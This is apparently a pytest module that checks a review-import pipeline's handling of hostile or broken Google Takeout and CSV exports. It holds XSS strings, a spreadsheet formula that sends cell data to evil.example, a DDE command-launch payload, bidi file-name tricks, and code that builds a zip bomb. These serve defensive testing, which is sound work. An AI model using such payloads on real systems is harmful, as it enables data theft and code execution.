"""Hostile and broken exports dropped in the inbox.

Every input of the corpus (tests/badinput/<source>/, plus the big ones generated here) either ends in
one clear line naming the file and the record, with the file moved to inbox/failed/ beside a
.error.txt holding that line, nothing of it stored, and the other files of the same collect imported;
or it is accepted with a documented behaviour that a test below pins down.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import zipfile
from pathlib import Path

import pytest

from db import connect
from ingest.collect import collect_inbox

from conftest import FIXTURES

CORPUS = Path(__file__).parent / "badinput"
TAKEOUT_MEMBER = "Takeout/Google Business Profile/account-42/location-1001/reviews.json"

# Two good exports delivered with every bad one: a Takeout reviews file and a platform CSV.
GOOD_FILES = {
    "google": FIXTURES / "google" / "account-42" / "location-1001" / "reviews.json",
    "platform": FIXTURES / "csv" / "platform_utf8_bom.csv",
}
GOOD_REVIEWS = ["google:AbC-111", "google:AbC-222", "google:AbC-333", "ratemd:p-1", "ratemd:p-2", "ratemd:p-3"]

# corpus file -> its whole one-line error, or the start of it when the rest quotes a library's words.
REJECTED = {
    "google/empty.json": "empty.json: the file is empty",
    "google/whitespace_only.json": "whitespace_only.json: the file is empty",
    "google/truncated.json": "truncated.json: line 15 column 7: invalid JSON: Expecting property name",
    "google/trailing_comma.json": "trailing_comma.json: line 25 column 3: invalid JSON: Expecting value",
    "google/html_error_page.json": "html_error_page.json: line 1 column 1: invalid JSON: Expecting value",
    "google/latin1.json": "latin1.json: not UTF-8 JSON (byte 216)",
    "google/Reviews.json": "Reviews.json: this is a Google Maps 'Reviews.json' of reviews you wrote, not the reviews "
                           "of a business; export the Business Profile from Takeout instead",
    "google/not_reviews.json": "not_reviews.json: no 'reviews' list: not a Google Business Profile reviews file",
    "google/reviews_not_list.json": "reviews_not_list.json: 'reviews' is not a list",
    "google/review_is_string.json": "review_is_string.json: reviews[1]: expected a review object, got str",
    "google/missing_review_id.json": "missing_review_id.json: reviews[1]: review has neither reviewId nor a name "
                                     "ending in /reviews/{id}",
    "google/reviewer_not_object.json": "reviewer_not_object.json: reviews[1]: reviewer is not an object",
    "google/comment_not_text.json": "comment_not_text.json: reviews[1]: comment: expected text, got dict",
    "google/rating_six.json": "rating_six.json: reviews[1]: starRating: rating 'SIX' is not a number of stars",
    "google/rating_zero.json": "rating_zero.json: reviews[1]: starRating: rating 0 is not a whole number from 1 to 5",
    "google/rating_half.json": "rating_half.json: reviews[1]: starRating: rating 4.5 is not a whole number from 1 to 5",
    "google/rating_negative.json": "rating_negative.json: reviews[1]: starRating: rating -1 is not a whole number "
                                   "from 1 to 5",
    "google/rating_true.json": "rating_true.json: reviews[1]: starRating: rating True is not a number of stars",
    "google/rating_infinity.json": "rating_infinity.json: reviews[1]: starRating: rating inf is not a whole number "
                                   "from 1 to 5",
    "google/date_feb30.json": "date_feb30.json: reviews[1]: createTime: unrecognised date '2026-02-30T10:00:00Z'",
    "google/date_1800.json": "date_1800.json: reviews[1]: createTime: implausible date '1800-01-01T00:00:00Z'",
    "google/date_far_future.json": "date_far_future.json: reviews[1]: createTime: implausible date "
                                   "'9999-12-31T23:59:59Z'",
    "google/date_epoch_zero.json": "date_epoch_zero.json: reviews[1]: createTime: implausible date 0",
    "google/date_huge_number.json": "date_huge_number.json: reviews[1]: createTime: implausible date 1e+300",
    "google/date_missing.json": "date_missing.json: reviews[1]: createTime is missing",
    "google/unknown_location.json": "unknown_location.json: review BI-2: location '9999' is not a configured "
                                    "location id, name, alias or google_location_id",
    "google/zip_traversal.zip": "zip_traversal.zip!../../location-1001/reviews.json: unsafe path in zip archive",
    "google/zip_no_reviews.zip": "zip_no_reviews.zip: zip holds no 'Google Business Profile/.../location-*/"
                                 "reviews*.json' file",
    "google/zip_truncated.zip": "zip_truncated.zip: not a valid zip archive: File is not a zip file",
    "google/zip_member_invalid_json.zip": "zip_member_invalid_json.zip!Takeout/Google Business Profile/account-42/"
                                          "location-2002/reviews.json: line 4 column 15: invalid JSON: "
                                          "Unterminated string",
    "google/zip_bad_crc.zip": f"zip_bad_crc.zip!{TAKEOUT_MEMBER}: cannot read this zip member: Bad CRC-32",
    "google/zip_encrypted.zip": f"zip_encrypted.zip!{TAKEOUT_MEMBER}: the zip member is encrypted; export the "
                                "Takeout archive without a password",
    "platform/empty.csv": "empty.csv: the file is empty",
    "platform/wrong_columns.csv": "wrong_columns.csv: line 1: column(s) ['Comment', 'Patient', 'Stars', 'Date', "
                                  "'Response', 'Review ID', 'Clinic'] not found; the header has ['id', 'location', "
                                  "'name', 'score', 'when', 'review']",
    "platform/semicolon_separated.csv": "semicolon_separated.csv: line 1: column(s) ['Comment', 'Patient', 'Stars', "
                                        "'Date', 'Response', 'Review ID', 'Clinic'] not found; the header has "
                                        "['Review ID;Clinic;Patient;Stars;Date;Comment;Response']",
    "platform/json_given_to_csv.csv": "json_given_to_csv.csv: line 1: column(s) ['Comment', 'Patient', 'Stars', "
                                      "'Date', 'Response', 'Review ID', 'Clinic'] not found; the header has ['{']",
    "platform/binary_junk.csv": "binary_junk.csv: binary data, not a CSV text file",
    "platform/png_renamed.csv": "png_renamed.csv: binary data, not a CSV text file",
    "platform/nul_in_row.csv": "nul_in_row.csv: binary data, not a CSV text file",
    "platform/ragged_row.csv": "ragged_row.csv: line 3: 6 fields where the header has 7",
    "platform/unterminated_quote.csv": "unterminated_quote.csv: line 3: malformed CSV: unexpected end of data",
    "platform/stray_quote.csv": "stray_quote.csv: line 3: malformed CSV: ',' expected after '\"'",
    "platform/rating_zero.csv": "rating_zero.csv: line 3: column 'Stars': rating '0' is not a whole number from 1 to 5",
    "platform/rating_six.csv": "rating_six.csv: line 3: column 'Stars': rating '6' is not a whole number from 1 to 5",
    "platform/rating_half.csv": "rating_half.csv: line 3: column 'Stars': rating '4.5' is not a whole number "
                                "from 1 to 5",
    "platform/rating_negative.csv": "rating_negative.csv: line 3: column 'Stars': rating '-1' is not a number of stars",
    "platform/date_feb30.csv": "date_feb30.csv: line 3: column 'Date': unrecognised date '2026-02-30'",
    "platform/date_1800.csv": "date_1800.csv: line 3: column 'Date': implausible date '1800-01-01'",
    "platform/date_far_future.csv": "date_far_future.csv: line 3: column 'Date': implausible date '3026-01-01'",
    "platform/unknown_location.csv": "unknown_location.csv: line 3: location 'Atlantis' is not a configured location "
                                     "id, name, alias or google_location_id",
}

# corpus file -> the review ids it leaves behind (each accepted file has its own test of the content).
ACCEPTED = {
    "google/utf16_bom.json": ["google:BI-1"],
    "google/duplicate_ids.json": ["google:BI-1"],
    "google/html_script.json": ["google:BI-1"],
    "google/bidi_controls.json": ["google:BI-1"],
    "platform/header_only.csv": [],
    "platform/cp1252.csv": ["ratemd:q-1"],
    "platform/utf16.csv": ["ratemd:q-1"],
    "platform/mixed_encoding.csv": ["ratemd:q-1", "ratemd:q-2"],
    "platform/duplicate_ids.csv": ["ratemd:q-1"],
    "platform/html_script.csv": ["ratemd:q-1", "ratemd:q-2"],
    "platform/formula_injection.csv": ["ratemd:q-1", "ratemd:q-2"],
}


def test_the_corpus_holds_every_file_once_with_an_expected_outcome():
    on_disk = sorted(f"{p.parent.name}/{p.name}" for p in CORPUS.glob("*/*") if p.is_file())
    assert on_disk == sorted([*REJECTED, *ACCEPTED])
    assert len(on_disk) >= 30


@pytest.fixture
def con(settings):
    connection = connect(settings.database_path)
    yield connection
    connection.close()


def deliver(settings, source: str, name: str, data: bytes) -> Path:
    """Drop `data` as inbox/<source>/<name>, between two good exports (older and newer by mtime)."""
    inbox = settings.inbox_dir
    for index, (good_source, good) in enumerate(GOOD_FILES.items()):
        folder = inbox / good_source
        folder.mkdir(parents=True, exist_ok=True)
        copy = folder / f"good-{good.name}"
        shutil.copy(good, copy)
        os.utime(copy, (1_700_000_000 + index * 20, 1_700_000_000 + index * 20))
    path = inbox / source / name
    path.write_bytes(data)
    os.utime(path, (1_700_000_010, 1_700_000_010))
    return path


def collect_one_bad_file(con, settings, source: str, name: str, data: bytes):
    """Collect the inbox holding one bad file and two good ones; return the bad file's result."""
    deliver(settings, source, name, data)
    results = collect_inbox(con, settings)
    assert [r.status for r in results] == ["ok", results[1].status, "ok"]  # good, bad, good: in mtime order
    return results[1]


def assert_quarantined(con, settings, name: str, result, expected: str) -> None:
    """The whole contract for a rejected file (see the module docstring)."""
    assert result.status == "failed"
    assert result.error.startswith(expected), result.error
    assert "\n" not in result.error and "\r" not in result.error
    failed = settings.inbox_dir / "failed"
    assert (failed / name).exists()
    assert (failed / f"{name}.error.txt").read_text(encoding="utf-8") == result.error + "\n"
    assert not (settings.inbox_dir / "done" / name).exists()
    assert [r[0] for r in con.execute("SELECT review_id FROM reviews ORDER BY 1").fetchall()] == GOOD_REVIEWS
    assert con.execute("SELECT count(*) FROM review_versions").fetchone() == (len(GOOD_REVIEWS),)
    assert con.execute("SELECT status, rows_seen, error FROM imports ORDER BY import_id").fetchall() == [
        ("ok", 3, None), ("failed", 0, result.error), ("ok", 3, None)
    ]
    assert sorted(p.name for p in (settings.inbox_dir / "done").iterdir()) == sorted(
        f"good-{g.name}" for g in GOOD_FILES.values()
    )


@pytest.mark.parametrize("entry", sorted(REJECTED))
def test_a_bad_file_is_quarantined_with_one_line_naming_file_and_record(entry, con, settings):
    source, name = entry.split("/")
    result = collect_one_bad_file(con, settings, source, name, (CORPUS / entry).read_bytes())
    assert_quarantined(con, settings, name, result, REJECTED[entry])


@pytest.mark.parametrize("entry", sorted(ACCEPTED))
def test_an_accepted_file_is_imported_whole_beside_the_others(entry, con, settings):
    source, name = entry.split("/")
    result = collect_one_bad_file(con, settings, source, name, (CORPUS / entry).read_bytes())
    assert (result.status, result.error) == ("ok", None)
    stored = [r[0] for r in con.execute("SELECT review_id FROM reviews ORDER BY 1").fetchall()]
    assert stored == sorted(GOOD_REVIEWS + ACCEPTED[entry])
    assert (settings.inbox_dir / "done" / name).exists()
    assert not (settings.inbox_dir / "failed").exists()


# ---- what an accepted file stores


def import_alone(con, settings, entry: str):
    source, name = entry.split("/")
    folder = settings.inbox_dir / source
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(CORPUS / entry, folder / name)
    (result,) = collect_inbox(con, settings)
    assert result.status == "ok", result.error
    return result


def stored(con, columns: str = "review_id, author, rating, text"):
    return con.execute(f"SELECT {columns} FROM reviews ORDER BY review_id").fetchall()


@pytest.mark.parametrize("entry", ["google/duplicate_ids.json", "platform/duplicate_ids.csv"])
def test_duplicate_ids_in_one_file_keep_the_latest_by_update_time_as_the_one_version(entry, con, settings):
    # Three versions of one review in one file, the newest first: the newest by updateTime (by date
    # for a CSV) wins whatever its position, and that import records one version of the review.
    result = import_alone(con, settings, entry)
    assert (result.rows_seen, result.rows_new) == (3, 1)
    assert stored(con, "rating, text") == [(1, "Edited later: nobody called back.")]
    assert con.execute("SELECT rating, text FROM review_versions").fetchall() == [(1, "Edited later: nobody called back.")]


def test_html_in_a_review_is_stored_as_the_text_the_patient_typed(con, settings):
    # Entities are decoded once; markup stays literal text. Reports escape it (test_output_safety).
    import_alone(con, settings, "google/html_script.json")
    assert stored(con, "text") == [(
        '<script>alert("x")</script><img src=x onerror=alert(1)> <b>bold</b> '
        '<a href="javascript:alert(2)">link</a>',
    )]


def test_bidi_overrides_and_control_characters_are_removed_from_text(con, settings):
    import_alone(con, settings, "google/bidi_controls.json")
    assert stored(con, "text") == [("Invoice gnp.exe paid ok",)]


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ("platform/cp1252.csv", [("ratemd:q-1", "Renée", 5, "Très bien – merci")]),
        ("platform/utf16.csv", [("ratemd:q-1", "Renée", 5, "Très bien")]),
        # A file stitched from a UTF-8 export and an Excel one: each row reads as it was written.
        ("platform/mixed_encoding.csv", [("ratemd:q-1", "Zoë", 5, "Très bien — merci"),
                                         ("ratemd:q-2", "José", 4, "Café crème")]),
        ("google/utf16_bom.json", [("google:BI-1", "Pat Doe", 4, "Très bien, merci")]),
        ("platform/header_only.csv", []),
    ],
)
def test_other_encodings_are_decoded_without_mojibake(entry, expected, con, settings):
    import_alone(con, settings, entry)
    assert stored(con) == expected


def test_formula_like_text_is_stored_verbatim_and_guarded_only_on_export(con, settings):
    import_alone(con, settings, "platform/formula_injection.csv")
    assert con.execute("SELECT author, text, reply_text FROM reviews WHERE review_id = 'ratemd:q-2'").fetchone() == (
        '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"
    )


# ---- big and pathological inputs, generated at test time

HEADER = b"Review ID,Clinic,Patient,Stars,Date,Comment,Response\r\n"


def takeout_json(*records: dict) -> bytes:
    return json.dumps({"reviews": list(records)}).encode()


def google_review(review_id: str, **fields) -> dict:
    return {"reviewId": review_id, "name": f"accounts/42/locations/1001/reviews/{review_id}", "starRating": "FIVE",
            "comment": "Fine.", "createTime": "2026-03-02T15:04:05Z", **fields}


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


def test_a_50_mb_csv_field_is_refused_naming_line_and_column(con, settings):
    data = HEADER + b"q-1,Main Street,Ann,5,2026-03-02,ok,\r\nq-2,Main Street,Bob,4,2026-03-03,\"" + b"a" * (50 * 1024**2) + b"\",\r\n"
    result = collect_one_bad_file(con, settings, "platform", "huge_field.csv", data)
    assert_quarantined(con, settings, "huge_field.csv", result,
                       "huge_field.csv: line 3: column 'Comment': field of 52428800 characters is over the 1 MiB limit")


def test_a_50_mb_review_text_in_json_is_refused_naming_the_record(con, settings):
    data = takeout_json(google_review("BI-1"), google_review("BI-2", comment="a" * (50 * 1024**2)))
    result = collect_one_bad_file(con, settings, "google", "huge_comment.json", data)
    assert_quarantined(con, settings, "huge_comment.json", result,
                       "huge_comment.json: reviews[1]: comment: text of 52428800 characters is over the 1 MiB limit")


def test_a_million_row_csv_with_one_bad_row_leaves_no_row_behind(con, settings):
    # 250,000 good rows are staged (in many batches) before the bad one: the transaction drops them all.
    rows = [b"r%d,Main Street,,5,,ok %d,\r\n" % (i, i) for i in range(1_000_000)]
    rows[250_000] = b"rX,Main Street,,9,,bad,\r\n"
    result = collect_one_bad_file(con, settings, "platform", "million.csv", HEADER + b"".join(rows))
    assert_quarantined(con, settings, "million.csv", result,
                       "million.csv: line 250002: column 'Stars': rating '9' is not a whole number from 1 to 5")


def test_a_utf8_csv_with_a_cp1252_row_after_the_sniffed_part_reads_both(con, settings):
    filler = b"".join(b"f%d,Main Street,,5,2026-03-02,plain ascii \xe2\x80\x94 row %d,\r\n" % (i, i) for i in range(6000))
    assert len(filler) > 256 * 1024  # beyond what the encoding detector looks at
    data = HEADER + filler + "late,Main Street,José,4,2026-03-03,Café,\r\n".encode("cp1252")
    result = collect_one_bad_file(con, settings, "platform", "late_cp1252.csv", data)
    assert (result.status, result.rows_seen) == ("ok", 6001)
    assert con.execute("SELECT author, text FROM reviews WHERE source_review_id = 'late'").fetchone() == ("José", "Café")
    assert con.execute("SELECT text FROM reviews WHERE source_review_id = 'f7'").fetchone() == ("plain ascii — row 7",)


def test_deeply_nested_json_is_refused_without_a_crash(con, settings):
    data = b'{"reviews": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    result = collect_one_bad_file(con, settings, "google", "nested.json", data)
    assert_quarantined(con, settings, "nested.json", result, "nested.json: JSON nested too deeply")


def test_a_zip_bomb_is_refused_before_it_is_expanded(con, settings):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open(TAKEOUT_MEMBER, "w") as member:
            for _ in range(200):
                member.write(b" " * 1024**2)
    assert len(buf.getvalue()) < 1024**2  # 200 MiB in well under 1 MiB
    result = collect_one_bad_file(con, settings, "google", "bomb.zip", buf.getvalue())
    assert_quarantined(con, settings, "bomb.zip", result, f"bomb.zip!{TAKEOUT_MEMBER}: compression ratio")
    assert result.error.endswith("looks like a zip bomb")


def test_a_zip_whose_directory_claims_gigabytes_is_refused_from_its_directory(con, settings):
    data = bytearray(zip_bytes([(TAKEOUT_MEMBER, takeout_json(google_review("BI-1")))]))
    central = data.index(b"PK\x01\x02")
    data[central + 24:central + 28] = struct.pack("<I", 3 * 1024**3)  # uncompressed size: 3 GiB
    result = collect_one_bad_file(con, settings, "google", "claims_3gib.zip", bytes(data))
    assert_quarantined(con, settings, "claims_3gib.zip", result,
                       f"claims_3gib.zip: zip expands to {3 * 1024**3} bytes, more than the limit of 2147483648")


def test_a_zip_of_too_many_files_is_refused(con, settings):
    data = zip_bytes([(f"Takeout/junk/{i}.txt", b"") for i in range(10_001)])
    result = collect_one_bad_file(con, settings, "google", "many.zip", data)
    assert_quarantined(con, settings, "many.zip", result,
                       "many.zip: zip holds 10001 files, more than the limit of 10000")


def test_a_file_of_no_known_source_in_the_inbox_root_is_quarantined(con, settings):
    deliver(settings, "google", "ignored-name.json", GOOD_FILES["google"].read_bytes())
    (settings.inbox_dir / "google" / "ignored-name.json").unlink()
    (settings.inbox_dir / "notes.txt").write_bytes(b"call the plumber on monday\n")
    results = collect_inbox(con, settings)
    failed = [r for r in results if r.status == "failed"]
    assert [r.error for r in failed] == [
        "notes.txt: cannot tell which source this file belongs to; put it in inbox/<source name>/ "
        "(sources: google, platform)"
    ]
    assert (settings.inbox_dir / "failed" / "notes.txt.error.txt").exists()
    assert [r[0] for r in con.execute("SELECT review_id FROM reviews ORDER BY 1").fetchall()] == GOOD_REVIEWS


@pytest.mark.parametrize(
    ("name", "shown"),
    [("bad\nname.json", "bad\\nname.json"), ("invoice\u202egpj.json", "invoice\\u202egpj.json")],
)
def test_control_characters_in_a_file_name_cannot_split_or_reorder_the_error_line(name, shown, con, settings):
    result = collect_one_bad_file(con, settings, "google", name, b"{not json")
    assert_quarantined(con, settings, name, result, f"{shown}: line 1 column 2: invalid JSON")
